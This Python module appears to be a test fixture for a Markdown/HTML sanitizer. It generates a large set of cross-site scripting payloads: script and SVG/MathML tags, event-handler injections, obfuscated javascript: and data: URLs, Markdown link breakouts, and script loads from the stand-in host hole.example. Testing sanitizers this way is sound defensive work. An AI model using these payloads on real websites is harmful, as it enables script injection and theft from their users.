"""Text that tries to run something in a reader's browser, written for this project by trick.

Each calls ``ran()`` where it succeeds, or asks ``hole.example`` for something.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator

CALL = "ran()"
TAGS = [
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT >",
    f"<script\t\n>{CALL}</script\x0b>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=//hole.example/a.js></script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script xlink:href=data:,{CALL}></script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={CALL} begin=0s>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=20>go</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}></svg>#x'></svg>",
    f"<math><mi xlink:href=javascript:{CALL}>go</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img src onerror={CALL}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={CALL}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<select><template><style><!--</style><a rel='--></style></select><img onerror={CALL} src>'>",
    f"<xmp><p title='</xmp><svg/onload={CALL}>'>",
    f"<textarea><p title='</textarea><svg/onload={CALL}>'>",
    f"<title><p title='</title><svg/onload={CALL}>'>",
    f"<!--><svg/onload={CALL}>-->",
    f"<!--!><img src=x onerror={CALL}>",
    f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f"<?xml ><img src=x onerror={CALL}>?>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<form action=javascript:{CALL}><input type=submit autofocus></form>",
    f"<button formaction=javascript:{CALL}>go</button>",
    f"<isindex action=javascript:{CALL} type=image>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<base href=//hole.example/>",
    "<link rel=stylesheet href=//hole.example/a.css>",
    "<style>@import '//hole.example/a.css';*{background:url(//hole.example/b)}</style>",
    "<img src=//hole.example/pixel>",
    "<video poster=//hole.example/p><source src=//hole.example/v></video>",
]
HANDLERS = [
    f"<{tag} {handler}={CALL}{rest}>"
    for tag, handler, rest in [
        ("img", "onerror", " src=x"),
        ("img/", "onerror", "/src=x"),
        ("img", "OnErRoR\n", " src=x"),
        ("image", "onerror", " src=x"),
        ("body", "onload", ""),
        ("svg/", "onload", ""),
        ("input", "onfocus", " autofocus"),
        ("details", "ontoggle", " open"),
        ("video", "onloadstart", " src=x"),
        ("audio", "onerror", " src=x"),
        ("marquee", "onstart", ""),
        ("div", "onanimationstart", " style=animation:x"),
        ("a", "onfocusin", " href=# autofocus tabindex=1"),
        ("x", "onpointerrawupdate", ""),
        ("dialog", "onclose", " open"),
        ("p", "onbeforecopy", " contenteditable"),
    ]
]
_DOCUMENT = base64.b64encode(f"<script>parent.{CALL}</script>".encode()).decode()
SCHEMES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A&#x61vascript:{CALL}",
    f"java&Tab;script&NewLine;:{CALL}",
    f"javascript://hole.example/%0a{CALL}",
    f"javascript:https://hole.example/%0a{CALL}",
    f"java%73cript:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html;base64,{_DOCUMENT}",
    f"data:text/html,<script>{CALL}</script>",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"data:application/xhtml+xml,<x onload={CALL}>",
    f"view-source:javascript:{CALL}",
    f"jar:javascript:{CALL}!/",
    f"feed:javascript:{CALL}",
    f"\\\\hole.example\\{CALL}",
    "//hole.example",
    "/\\hole.example",
]
_HIDDEN = (
    "\x01\x08\x0b\x0c\x1f\x7f\x85\xa0\xad\u1680\u180e\u2000\u200b\u200c\u2028\u2029"
    "\u202e\u205f\u2060\u3000\ufeff"
)
SCHEMES += [f"{sign}javascript:{CALL}" for sign in _HIDDEN]
SCHEMES += [f"java{sign}script:{CALL}" for sign in _HIDDEN]
SCHEMES += [f"javascript{sign}:{CALL}" for sign in _HIDDEN]
LINKS = [
    "[go]({})",
    "[go](<{}>)",
    '[go]({} "title")',
    "![go]({})",
    "<{}>",
    "[go][1]\n\n[1]: {}",
    "[go][1]\n\n[1]: <{}> 'title'",
    "[![go]({})]({})",
    "[go](https://a.example/{})",
    "<a href='{}'>go</a>",
    '<a href="{}">go</a>',
    "{}",
]
BREAKS = [
    f'[go](https://a.example/"onmouseover="{CALL}"//)',
    f"[go](https://a.example/'onfocus='{CALL}'autofocus='//)",
    f'[go](https://a.example "title\\" onclick=\\"{CALL}")',
    f'https://a.example/"onmouseover={CALL}//',
    f"https://a.example/<img src=x onerror={CALL}>",
    f'<https://a.example/"><img/src/onerror={CALL}>',
    f'!["onerror={CALL} x="](https://a.example/x.png)',
    f"`<img src=x onerror={CALL}>`",
    f'```"><img src=x onerror={CALL}>\nwords\n```',
    f"&lt;img src=x onerror={CALL}&gt;",
    f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;",
    f"\\<img src=x onerror={CALL}>",
    f"*a*<b>{{{{{CALL}}}}}</b>${{{CALL}}}",
    f"'-{CALL}-'",
    f'";{CALL};//',
    f"</script><script>{CALL}</script>",
    f"</title></textarea></style><img src=x onerror={CALL}>",
    f'"><img src=x onerror={CALL}>',
    f"' autofocus onfocus={CALL} x='",
    f"{{% now '{CALL}' %}}{{{{ request }}}}",
    "\u202e<gnp.x=crs gmi>\u202c",
    "z" + "\u0334\u0316\u0347" * 40,
]
FRAMES = [
    "{}",
    "> {}",
    "- {}\n- {}",
    "**{}**",
    "~~{}~~ *{}*",
    "a\n\n{}\n\nb",
    "[{}](https://a.example)",
]


def payloads() -> list[str]:
    """Every trick once."""
    links = [link.replace("{}", scheme) for scheme in SCHEMES for link in LINKS]
    return [*TAGS, *HANDLERS, *BREAKS, *links]


def framed() -> Iterator[str]:
    """Every trick in every place where Markdown would look at it anew."""
    for payload in payloads():
        for frame in FRAMES:
            yield frame.replace("{}", payload)


def short(most: int) -> list[str]:
    """Those that fit into a name, a title or the name of a file."""
    return [one for one in [*TAGS, *HANDLERS, *BREAKS] if len(one) <= most and "\n" not in one]
